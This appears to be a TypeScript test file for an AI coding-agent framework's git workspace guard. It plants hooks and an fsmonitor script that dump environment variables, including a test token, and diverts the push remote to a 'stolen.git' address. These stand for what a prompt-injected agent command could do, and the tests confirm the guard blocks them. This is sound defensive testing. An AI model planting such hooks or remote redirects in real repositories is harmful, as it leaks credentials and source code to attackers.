import { access, chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { GitHost } from '@agentsmith/providers';
import {
  git,
  gitTestRepo,
  startGitHttpServer,
  TEST_GIT_ENV,
  type GitTestRepo,
} from '@agentsmith/testkit';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createGitSourceWorkspace } from './git-source-workspace.js';

const signal = new AbortController().signal;
const TOKEN = 'ghs_plantedTokenProbe77';

describe('git/git-config-guard (what the model planted in .git)', () => {
  let repo: GitTestRepo;
  let scratch: string;
  let server: Awaited<ReturnType<typeof startGitHttpServer>>;

  beforeEach(async () => {
    repo = await gitTestRepo({ 'a.txt': 'a\n' });
    scratch = await mkdtemp(join(tmpdir(), 'git-guard-'));
    await git(repo.origin, 'config', 'http.receivepack', 'true');
    server = await startGitHttpServer({
      repositories: { 'org/app.git': repo.origin },
      password: TOKEN,
    });
  });

  afterEach(async () => {
    await server.stop();
    await repo.cleanup();
    await rm(scratch, { recursive: true, force: true });
  });

  const workspaceIn = (directory: string) =>
    createGitSourceWorkspace({
      gitHost: {
        type: 'test',
        cloneSource: () => ({
          url: `${server.url}/org/app.git`,
          credentials: { username: 'x-access-token', password: TOKEN },
        }),
        findDefaultBranch: () => Promise.resolve(null),
        ensurePullRequest: () => Promise.reject(new Error('not used')),
      } satisfies GitHost,
      directory,
      env: { ...process.env, ...TEST_GIT_ENV, GITHUB_TOKEN: TOKEN },
    });

  it('runs no planted hook or fsmonitor and pushes to the checked-out remote only', async () => {
    const directory = join(scratch, 'clone');
    const workspace = workspaceIn(directory);
    await workspace.checkout('fix/9', { signal });
    // What a prompt-injected `run_command` could do: programs git would start, and a diverted remote.
    const spy = join(scratch, 'spy.sh');
    const spyLog = join(scratch, 'planted-ran.log');
    await writeFile(spy, `#!/bin/sh\nenv >> '${spyLog}'\n`);
    await chmod(spy, 0o755);
    for (const hook of ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction']) {
      await writeFile(join(directory, '.git/hooks', hook), `#!/bin/sh\n'${spy}'\n`);
      await chmod(join(directory, '.git/hooks', hook), 0o755);
    }
    await git(directory, 'config', 'core.fsmonitor', spy);
    await git(directory, 'config', 'remote.origin.url', 'http://127.0.0.1:9/stolen.git');
    await git(directory, 'config', `url.http://127.0.0.1:9/.insteadOf`, `${server.url}/`);
    await writeFile(join(directory, 'a.txt'), 'b\n');

    const changed = await workspace.changedFiles({ signal });
    const pushed = await workspace.commitAndPush('fix: a (#9)', { signal });

    expect(changed).toEqual(['a.txt']);
    expect(pushed?.changedFiles).toEqual(['a.txt']);
    expect(await repo.showInOrigin('fix/9:a.txt')).toEqual('b');
    await expect(access(spyLog)).rejects.toThrow();
    expect(await git(directory, 'config', 'remote.origin.url')).toEqual(
      `${server.url}/org/app.git`,
    );
  });

  it('replaces the configuration an earlier run planted in a reused clone before fetching', async () => {
    const directory = join(scratch, 'clone');
    await workspaceIn(directory).checkout('fix/1', { signal });
    await git(directory, 'config', `url.http://127.0.0.1:9/.insteadOf`, `${server.url}/`);
    await git(directory, 'config', 'http.sslVerify', 'false');
    await git(directory, 'config', 'include.path', join(scratch, 'more.config'));
    await git(repo.work, 'commit', '--quiet', '--allow-empty', '-m', 'newer');
    await git(repo.work, 'push', '--quiet', 'origin', 'HEAD');

    const second = await workspaceIn(directory).checkout('fix/2', { signal });

    expect(second.baseBranch).toEqual('main');
    expect(await git(directory, 'log', '-1', '--format=%s')).toEqual('newer');
    const config = await readFile(join(directory, '.git/config'), 'utf8');
    expect(config).not.toMatch(/insteadOf|sslVerify|include/i);
    expect(config).toContain(`url = "${server.url}/org/app.git"`);
  });
});
